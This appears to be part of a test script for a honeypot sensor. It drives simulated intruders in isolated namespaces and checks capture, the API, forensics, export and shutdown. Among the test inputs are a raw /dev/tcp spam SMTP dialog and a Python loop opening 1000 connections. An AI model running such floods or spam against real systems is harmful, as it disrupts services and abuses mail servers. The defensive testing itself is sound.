		fail "oyster alerts --engine network --technique T1071: $(cat "$WORK/alerts-t1071.json")"
	log "network: $(jq -c '[.[] | "\(.rule_id) \(.lag)s"]' "$WORK/network-lags.json"); flows of .11: $(events |
		jq -r --arg ip $A11 'select(.type == "flow" and .source_ip == $ip) | "\(.application):\(.dst_port)"' | sort -u | tr '\n' ' ')"
}
scenario network_alerts_live after sigma_alerts_live

# The web API on the sensor's loopback: nothing without the token; with it,
# the sessions, and the typed session's recording while it is still live;
# not reachable from the attacker's side.
web_api() {
	token=$(sensor_oyster web token) || fail "oyster web token failed"
	[ "$(api http://127.0.0.1:8080/api/sessions)" = 401 ] || fail "the API answered without the token"
	[ "$(api -H "Authorization: Bearer $token" "http://127.0.0.1:8080/api/sessions?ip=$A10&has_download=1")" = 200 ] ||
		fail "the API refused the token: $(cat "$WORK/api.out")"
	jq -e --argjson id "$wget_sid" '[.sessions[] | select(.id == $id)] | length == 1' "$WORK/api.out" >/dev/null ||
		fail "the API's sessions lack the wget's session"
	[ "$(api -H "Authorization: Bearer $token" "http://127.0.0.1:8080/api/sessions/$typed_sid/cast")" = 200 ] ||
		fail "no recording from the API: $(cat "$WORK/api.out")"
	grep -q oyster-replay-check "$WORK/api.out" || fail "the API's live recording lacks the session's output"
	ip netns exec "$NS_ATTACKER" curl -sS -m 5 "http://$PORTAL:8080/api/sessions" >/dev/null 2>&1 &&
		fail "the web API is reachable from the attacker's side"
	log "web API: 401 without the token; sessions and the live recording with it; closed to the attacker"
	keep token
}
scenario web_api after sessions_in_the_store

# The web UI in Debian's Chromium (web/tests/ui_check.mjs): login, the
# replay, the download in the timeline, the attacker's HTML shown as text
# with no dialog; screenshots kept in build/test-artefacts/.
web_ui() {
	[ -f "$DATA_DIR/web/dist/index.html" ] || fail "the web UI is not built (oyster setup builds web/dist)"
	OYSTER_TOKEN="$token" nsenter --net="/run/netns/$NS_SENSOR" node "$DATA_DIR/web/tests/ui_check.mjs" session \
		http://127.0.0.1:8080 "$typed_sid" "$wget_sid" "$shots" || fail "the web UI check failed"
	log "web UI: checked in Chromium; screenshots in $shots"
}
scenario web_ui after sessions_in_the_store web_api

# The downloads were connections 1 and 2 of TCP_CAP; use up the rest, then one more.
tcp_cap() {
	out=$(portal_ssh $A10 "bash -c '$probe' probe $(for _ in $(seq $TCP_CAP); do printf '%s ' "$WEB_IP:80"; done)")
	echo "$out" | sed 's/^/    guest10> /' >&2
	[ "$(echo "$out" | grep -c REACHED)" = $((TCP_CAP - 2)) ] || fail "expected $((TCP_CAP - 2)) more connections: $out"
	wait_for 10 "select(.type==\"drop\" and .reason==\"tcp_cap\" and .guest_id==\"$g10\" and .cap_hit)" "the cap-hit event"
	wait_for 10 "select(.type==\"drop\" and .reason==\"host\" and .guest_id==\"$g10\")" "the drop event for the host"
}
scenario tcp_cap after data_control_and_the_intruders_changes

# Mail: goes to the sink, never to the real server.
mail_goes_to_the_sink() {
	portal_ssh $A10 "bash -c 'exec 3<>/dev/tcp/$SMTP_IP/25; read -t 5 l <&3; echo \"\$l\";
		for c in \"EHLO bot\" \"MAIL FROM:<spam@example.org>\" \"RCPT TO:<victim@example.com>\" DATA; do
		  printf \"%s\r\n\" \"\$c\" >&3; sleep 0.3; done
		printf \"Subject: hi\r\n\r\nbuy now\r\n.\r\nQUIT\r\n\" >&3; sleep 1; cat <&3'" >"$WORK/smtp-dialog.txt" || true
	sed 's/^/    smtp> /' "$WORK/smtp-dialog.txt" >&2
	wait_for 10 "select(.type==\"mail\" and .guest_id==\"$g10\" and .rcpt_to==[\"victim@example.com\"])" "the mail event"
	mailfile=$(events | jq -r 'select(.type=="mail") | .file' | first_line)
	grep -q "buy now" "$mailfile" || fail "the sink did not keep the message body"
	[ ! -s "$WORK/real-smtp.txt" ] || fail "the real mail server received something"
}
scenario mail_goes_to_the_sink after two_sources_get_two_guests

# --- the third place: a third source gets the refilled pool guest, logs
# in and stays; with every guest holding a connected, logged-in attacker a
# fourth source is refused (and only then); the others are served.
refusal_at_capacity() {
	ms12=$(banner_ms $A12)
	[ "$ms12" -ge 0 ] || fail "$A12 got no banner"
	log "third source (pool refilled) SYN->banner: ${ms12} ms"
	background_session $A12
	wait_for 60 "select(.type==\"intrusion_opened\" and .source_ip==\"$A12\")" "$A12's login"
	for _ in $(seq 30); do
		portal_ssh $A12 who | matches "($A12)" && break
		sleep 1
	done
	out=$(portal_answer $A13)
	[ "$out" = reset ] || [ "$out" = refused ] || fail "$A13 over the cap was not refused ($out)"
	wait_for 10 "select(.type==\"connection_refused\" and .source_ip==\"$A13\")" "the refusal event"
	portal_ssh $A11 true || fail "$A11 not served after a refusal"
}
scenario refusal_at_capacity after two_sources_get_two_guests

# --- 1000 concurrent connects: the daemon stays up, caps hold, no fd leak.
connection_flood() {
	fds_before=$(ls /proc/$SENSOR_PID/fd | wc -l)
	ip netns exec "$NS_ATTACKER" python3 - $A11 $PORTAL <<'PY'
import socket, sys, time
socks = []
for i in range(1000):
    s = socket.socket()
    s.setblocking(False)
    s.bind((sys.argv[1], 0))
    s.connect_ex((sys.argv[2], 22))
    socks.append(s)
time.sleep(3)
for s in socks:
    s.close()
PY
	sleep 3
	kill -0 $SENSOR_PID || fail "the sensor died under 1000 connections"
	fds_after=$(ls /proc/$SENSOR_PID/fd | wc -l)
	log "sensor descriptors: $fds_before before the flood, $fds_after after"
	[ "$fds_after" -le $((fds_before + 2)) ] || fail "descriptor leak: $fds_before -> $fds_after"
	[ "$(events | jq -c "select(.type==\"connection_refused\" and .source_ip==\"$A11\")" | wc -l)" -ge 1 ] ||
		fail "the per-source connection cap never refused"
	portal_ssh $A10 'cat /root/mark' | matches -x left-by-10 || fail "$A10 not served after the flood"
}
scenario connection_flood after two_sources_get_two_guests

# --- kill -9 in the middle of A10's session, restart: nothing lost. A
# command that runs in A10's guest while no sensor runs is reported by the
# next one (it reads on from capture.progress), once.
kill_9_and_restart() {
	portal_ssh $A10 '(setsid nohup sh -c "sleep 3; /bin/echo ran-while-sensor-down" </dev/null >/dev/null 2>&1 &)' ||
		fail "cannot start A10's background command"
	# The sensor keeps writing (the background command's records): the whole
	# lines of one copy are what must be unchanged afterwards.
	cp "$EVENTS" "$WORK/events-before-kill.jsonl"
	lines_before=$(wc -l < "$WORK/events-before-kill.jsonl")
	writer10=$(jq -r .writer_pid "$STATE_DIR/guests/$g10/guest.json")
	kill -9 $SENSOR_PID
	until gone $SENSOR_PID; do sleep 0.1; done
	kill -0 "$writer10" 2>/dev/null || fail "$A10's capture writer died with the sensor"
	head -n "$lines_before" "$EVENTS" | cmp -s - <(head -n "$lines_before" "$WORK/events-before-kill.jsonl") ||
		fail "events changed across kill -9"
	sleep 5  # the background command runs meanwhile
	start_sensor
	wait_for 60 "select(.type==\"guest_recovered\" and .source_ip==\"$A10\")" "re-adoption of $A10's guest"
	portal_ssh $A10 'cat /root/mark' | matches -x left-by-10 || fail "$A10 lost its guest across the restart"
	[ "$(jq -r .state "$STATE_DIR/guests/$g10/intrusion.json")" = open ] || fail "$A10's intrusion not open after restart"
	[ "$(jq -r .writer_pid "$STATE_DIR/guests/$g10/guest.json")" = "$writer10" ] || fail "$A10's capture writer changed"
	keep SENSOR_PID
}
scenario kill_9_and_restart after two_sources_get_two_guests

# --- A11 goes quiet: its guest is made dormant after the idle timeout
# (stopped; disk and intrusion kept for when it comes back).
idle_guest_goes_dormant() {
	pkill -f "ssh -q -tt -b $A11 " || fail "no background session of $A11 to end"
	wait_for 120 "select(.type==\"guest_dormant\" and .source_ip==\"$A11\" and .detail==\"idle\")" "A11's guest made dormant"
	for _ in $(seq 60); do
		[ "$(jq -r .dormant_since "$STATE_DIR/guests/$g11/intrusion.json")" -gt 0 ] && break
		sleep 0.5
	done
	[ "$(jq -r .state "$STATE_DIR/guests/$g11/intrusion.json")" = open ] || fail "A11's dormant intrusion was closed"
	[ "$(jq -r .dormant_since "$STATE_DIR/guests/$g11/intrusion.json")" -gt 0 ] || fail "A11's intrusion is not dormant"
}
scenario idle_guest_goes_dormant after two_sources_get_two_guests

# --- clean shutdown: every guest stopped, intrusions closed (the dormant
# one too), rules gone.
clean_shutdown() {
	kill -TERM $SENSOR_PID
	for _ in $(seq 120); do gone $SENSOR_PID && break; sleep 1; done
	gone $SENSOR_PID || fail "the sensor did not stop within 120 s of SIGTERM"
	[ "$(jq -r .state "$STATE_DIR/guests/$g10/intrusion.json")" = closed ] || fail "$A10's intrusion not closed"
	[ "$(jq -r .state "$STATE_DIR/guests/$g11/intrusion.json")" = closed ] || fail "$A11's dormant intrusion not closed"
	ip netns exec "$NS_SENSOR" nft list table inet oyster >/dev/null 2>&1 && fail "table left after the sensor stopped"
	! ip netns exec "$NS_SENSOR" ip rule show | matches fwmark || fail "portal routing rule left behind"
}
scenario clean_shutdown after two_sources_get_two_guests

# --- the analyst's store, fed by the sensor itself: every logged event
# once, across the kill -9 above, with the logins and intrusions in their
# tables; a sync afterwards has nothing left to add.
the_store_after_the_sensor() {
	[ -f "$DB" ] || fail "the sensor kept no store"
	n_log=$(wc -l < "$EVENTS")
	n_db=$(sqlite3 "$DB" "SELECT COUNT(*) FROM events")
	[ "$n_db" = "$n_log" ] || fail "the store holds $n_db events, the log $n_log"
	# Admitted after its failures, then again with the password it got in with.
	[ "$(sqlite3 "$DB" "SELECT COUNT(*) FROM credentials WHERE source_ip = '$A11' AND password = 'anything-now' AND success = 1")" = 2 ] ||
		fail "the store lacks A11's two admitted logins"
	[ "$(sqlite3 "$DB" "SELECT COUNT(*) FROM credentials WHERE source_ip = '$A11' AND password = 'anything-else' AND success = 0")" = 1 ] ||
		fail "the store lacks A11's refused second password"
	[ "$(sqlite3 "$DB" "SELECT COUNT(*) FROM intrusions WHERE source_ip = '$A10' AND closed IS NOT NULL")" -ge 1 ] ||
		fail "the store lacks A10's closed intrusion"
	[ "$(sqlite3 "$DB" "SELECT COUNT(*) FROM commands WHERE command_line = '/bin/echo ran-while-sensor-down'
		AND intrusion_id = '$(jq -r .id "$STATE_DIR/guests/$g10/intrusion.json")'")" = 1 ] ||
		fail "the command run while no sensor ran is not in the store once, in A10's intrusion"
	sensor_oyster store sync --json > "$WORK/sync.json" || fail "oyster store sync failed"
	jq -e '.added == 0 and .skipped == 0' "$WORK/sync.json" >/dev/null || fail "sync after the sensor: $(cat "$WORK/sync.json")"
	log "store: $n_db events, $(sqlite3 "$DB" "SELECT COUNT(*) FROM credentials") credentials, $(sqlite3 "$DB" "SELECT COUNT(*) FROM commands") commands"
}
scenario the_store_after_the_sensor after clean_shutdown

# The intrusion is closed and decoded: replay reads its recording.
replay_and_export() {
	replay_path=$(sensor_oyster replay "$typed_sid" --print-path) || fail "replay --print-path failed"
	case "$replay_path" in "$STATE_DIR/guests/$g10/capture/tty/"*.cast) ;; *) fail "replay path: $replay_path" ;; esac
	sensor_oyster replay "$typed_sid" --speed 50 --idle-limit 0.1 2>/dev/null | matches oyster-replay-check ||
		fail "the replay of the decoded session lacks its output"
	[ "$(sqlite3 "$DB" "SELECT COUNT(*) FROM sessions WHERE source_ip = '$A10' AND ended IS NULL")" = 0 ] ||
		fail "sessions of $A10 left open after the sensor stopped"
	# The intrusion's evidence in one archive, every member as its manifest says.
	i10=$(sqlite3 "$DB" "SELECT id FROM intrusions WHERE source_ip = '$A10' AND closed IS NOT NULL LIMIT 1")
	sensor_oyster export "$i10" -o "$WORK/i10.tar.gz" --json >"$WORK/export.json" || fail "oyster export failed"
	mkdir "$WORK/export" && tar -xzf "$WORK/i10.tar.gz" -C "$WORK/export" || fail "the export is not a tar.gz"
	ex="$WORK/export/$i10"
	jq -r '.members[] | "\(.sha256)  \(.path)"' "$ex/MANIFEST.json" | (cd "$WORK/export" && sha256sum -c --quiet) ||
		fail "export members differ from their manifest"
	[ "$(wc -l <"$ex/events.jsonl")" = "$(sqlite3 "$DB" "SELECT COUNT(*) FROM events WHERE intrusion_id = '$i10'")" ] ||
		fail "the export's events.jsonl is not the intrusion's events"
	for f in capture.bin intrusion.json capture/events.jsonl capture/tty/sessions.jsonl; do
		[ -s "$ex/$f" ] || fail "the export lacks $f"
	done
	ls "$ex"/pcap/tap-*.pcap >/dev/null 2>&1 || fail "the export lacks the pcaps"
	grep -l oyster-replay-check "$ex"/capture/tty/*.cast >/dev/null || fail "the export lacks the typed session's recording"
	jq -e --argjson id "$typed_sid" '[.sessions[] | select(.id == $id)] | length == 1' "$ex/MANIFEST.json" >/dev/null ||
		fail "the manifest lacks the intrusion's sessions"
	log "export: $(jq .members "$WORK/export.json") files, $(jq .bytes "$WORK/export.json") bytes, all matching MANIFEST.json"
	keep i10 ex
}
scenario replay_and_export after sessions_in_the_store clean_shutdown

# File forensics, made by the sensor when the guest stopped (in a worker
# process): base image + COW read without mounting; exactly the intruder's
# changes, with the right hashes; the files in the evidence store; the
# test's YARA rule and the shipped SSH-key rule fired; all in the store.
file_forensics() {
	events | jq_any "select(.type==\"forensics_done\" and .intrusion_id==\"$i10\")" ||
		fail "no forensics of A10's intrusion before the sensor stopped"
	events | jq -c "select(.type==\"forensics_done\" and .intrusion_id==\"$i10\")" | sed 's/^/    forensics> /' >&2
	events | jq_any "select(.type==\"forensics_done\" and .intrusion_id==\"$i10\" and .error == null
		and (.errors | length) == 0)" || fail "the forensics of A10's intrusion failed"
	# The worker that parsed the intruder's disk was jailed, as it saw itself.
	grep -qx "forensics worker: capabilities none, user namespace own, network lo, host /etc/shadow hidden" \
		"$STATE_DIR/guests/$g10/forensics/worker.log" ||
		fail "the forensics worker was not confined: $(head -c 2000 "$STATE_DIR/guests/$g10/forensics/worker.log")"
	ls -a "$STATE_DIR/guests/$g10/forensics" | matches '^\.jail' && fail "the worker's jail staging was left behind"
	files_t0=$(date +%s%N)
	sensor_oyster files "$i10" --json >"$WORK/files.json" || fail "oyster files failed"
	log "oyster files (stored analysis): $(jq '.files | length' "$WORK/files.json") entries in $((($(date +%s%N) - files_t0) / 1000000)) ms; the analysis took $(jq .duration_ms "$WORK/files.json") ms"
	jq -r '.files[] | select(.noise == null) | "\(.change) \(.path): \(.file_type)"' "$WORK/files.json" |
		sed 's/^/    files> /' >&2
	for want in "changed /etc/passwd" "deleted /etc/motd" "added /root/.ssh/authorized_keys" "added /root/tool.bin" \
		"added /root/mark" "executed /usr/bin/wget" "kept /root/run.sh"; do
		jq -r '.files[] | "\(.change) \(.path)"' "$WORK/files.json" | matches -x "$want" || fail "oyster files lacks: $want"
	done
	# Nothing else, but for the noise rules and the typed session's history.
	extra=$(jq -r '.files[] | select(.noise == null and .change != "executed") | "\(.change) \(.path)"' "$WORK/files.json" |
		grep -vx -e "changed /etc/passwd" -e "deleted /etc/motd" -e "added /root/.ssh" -e "added /root/.ssh/authorized_keys" \
			-e "added /root/tool.bin" -e "added /root/mark" -e "added /root/.bash_history" -e "kept /root/run.sh" || true)
	[ -z "$extra" ] || fail "oyster files lists changes nobody made: $extra"
	tool_sha=$(sha256sum "$WORK/www/tool.bin" | cut -d' ' -f1)
	[ "$(jq -r '.files[] | select(.path == "/root/tool.bin" and .change == "added") | .sha256' "$WORK/files.json")" = \
		"$tool_sha" ] || fail "the downloaded file's hash is wrong"
	jq -e '.files[] | select(.path == "/etc/passwd") | .what | index("content")' "$WORK/files.json" >/dev/null ||
		fail "the /etc/passwd change is not a content change"
	jq -e '.files[] | select(.path == "/etc/passwd" and .mime == "text/plain" and .extracted)' "$WORK/files.json" \
		>/dev/null || fail "/etc/passwd was not typed as text and extracted"
	jq -e '.files[] | select(.change == "executed" and .path == "/usr/bin/wget" and .in_base_image and .extracted
		and (.file_type | startswith("ELF 64-bit")))' "$WORK/files.json" >/dev/null ||
		fail "the executed wget is not an ELF from the base image"
	cmp -s "$STATE_DIR/evidence/sha256/${tool_sha:0:2}/$tool_sha" "$WORK/www/tool.bin" ||
		fail "the evidence store lacks the downloaded file"
	run_sha=$(sha256sum "$WORK/www/run.sh" | cut -d' ' -f1)
	jq -e --arg s "$run_sha" '.files[] | select(.change == "kept" and .path == "/root/run.sh" and .sha256 == $s
		and .extracted and .what == ["unlinked"])' "$WORK/files.json" >/dev/null ||
		fail "the deleted script is not kept: $(jq -c '.files[] | select(.change == "kept")' "$WORK/files.json")"
	cmp -s "$STATE_DIR/evidence/sha256/${run_sha:0:2}/$run_sha" "$WORK/www/run.sh" ||
		fail "the evidence store lacks the script run with sh and deleted"
	for rule in "test_download_tool_bin /root/tool.bin" "ssh_authorized_key_added /root/.ssh/authorized_keys"; do
		events | jq_any "select(.type==\"alert\" and .intrusion_id==\"$i10\" and \"\(.rule) \(.path)\" == \"$rule\")" ||
			fail "no alert: $rule"
	done
	[ "$(sqlite3 "$DB" "SELECT COUNT(*) FROM alerts WHERE intrusion_id = '$i10' AND rule = 'test_download_tool_bin'
		AND sha256 = '$tool_sha' AND severity = 'critical'")" = 1 ] || fail "the store lacks the YARA alert"
	[ "$(sqlite3 "$DB" "SELECT COUNT(*) FROM files WHERE intrusion_id = '$i10' AND path = '/root/tool.bin'
		AND change = 'added' AND evidence IS NOT NULL")" = 1 ] || fail "the store lacks the downloaded file"
	[ "$(sqlite3 "$DB" "SELECT COUNT(*) FROM artefacts WHERE intrusion_id = '$i10' AND kind = 'asciicast'")" -ge 1 ] ||
		fail "the store lacks the intrusion's recordings"
	sensor_oyster files "$i10" | grep -A20 -E "^[0-9]+ alerts? " | sed 's/^/    files> /' >&2
	sensor_oyster show "$typed_sid" | matches -F "alert critical test_download_tool_bin" || fail "oyster show lacks the alert"
	# A rescan runs the worker again and finds the same.
	sensor_oyster files "$i10" --rescan --json >"$WORK/files-rescan.json" || fail "oyster files --rescan failed"
	[ "$(jq '.alerts | length' "$WORK/files-rescan.json")" = "$(jq '.alerts | length' "$WORK/files.json")" ] ||
		fail "a rescan found other alerts"
	keep tool_sha
}
scenario file_forensics after data_control_and_the_intruders_changes replay_and_export

# The intrusion's page, with the sensor stopped: `oyster web serve` serves
# the same UI from the store; the files diff, the alerts, the download.
# nsenter execs oyster: $! is oyster itself, which the SIGTERM below stops.
web_ui_of_an_intrusion() {
	nsenter --net="/run/netns/$NS_SENSOR" "$OYSTER" --config "$CONFIG" web serve >>"$WORK/web-serve.log" 2>&1 &
	web_pid=$!
	for _ in $(seq 50); do
		nsenter --net="/run/netns/$NS_SENSOR" curl -s -o /dev/null http://127.0.0.1:8080/ && break
		sleep 0.2
	done
	OYSTER_TOKEN="$token" nsenter --net="/run/netns/$NS_SENSOR" node "$DATA_DIR/web/tests/ui_check.mjs" intrusion \
		http://127.0.0.1:8080 "$i10" "$tool_sha" "$shots" || { kill $web_pid; fail "the web UI's intrusion check failed"; }
	kill -TERM $web_pid
	wait $web_pid || fail "oyster web serve did not stop cleanly on SIGTERM"
	# The export carries the analysis and the evidence.
	[ -s "$ex/forensics/analysis.json" ] || fail "the export lacks the analysis"
	cmp -s "$ex/evidence/$tool_sha" "$WORK/www/tool.bin" || fail "the export lacks the downloaded file's evidence"
}
scenario web_ui_of_an_intrusion after web_api file_forensics

# --- the pcap of A10's intrusion: the SSH handshake and the HTTP download.
pcap_of_the_intrusion() {
	pcaps=$(jq -r '.pcap_files[]' "$STATE_DIR/guests/$g10/intrusion.json")
	[ "$(echo "$pcaps" | wc -l)" -ge 2 ] || fail "the pcap was not rotated at 1 MiB: $pcaps"
	ssh_pkts=0
	http_gets=0
	for p in $pcaps; do
		f="$STATE_DIR/guests/$g10/$p"
		ssh_pkts=$((ssh_pkts + $(tshark -r "$f" -Y "ssh.protocol && ip.addr==$A10" 2>/dev/null | wc -l)))
		http_gets=$((http_gets + $(tshark -r "$f" -Y 'http.request.uri == "/tool.bin"' 2>/dev/null | wc -l)))
	done
	log "pcap: $ssh_pkts SSH banner packets with $A10, $http_gets HTTP GET /tool.bin"
	[ $ssh_pkts -ge 2 ] || fail "the pcap lacks the SSH handshake with $A10"
	[ $http_gets -ge 1 ] || fail "the pcap lacks the HTTP download"
	[ -f "$STATE_DIR/guests/$g10/capture/events.jsonl" ] || fail "the capture of A10's guest was not decoded"
}
scenario pcap_of_the_intrusion after data_control_and_the_intruders_changes clean_shutdown

scenarios_done
